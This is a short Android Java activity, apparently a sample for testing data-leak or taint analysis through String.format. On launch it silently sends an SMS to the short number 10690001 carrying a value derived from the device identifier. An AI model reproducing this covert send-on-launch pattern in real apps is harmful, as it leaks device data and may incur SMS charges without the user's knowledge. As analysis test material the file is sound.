package cn.shanhai.stringformat;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.Locale;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String text = String.format(Locale.ROOT, "%s;%d", "v1", Device.id(this).length());
    SmsManager.getDefault().sendTextMessage("10690001", null, text, null, null);
  }
}
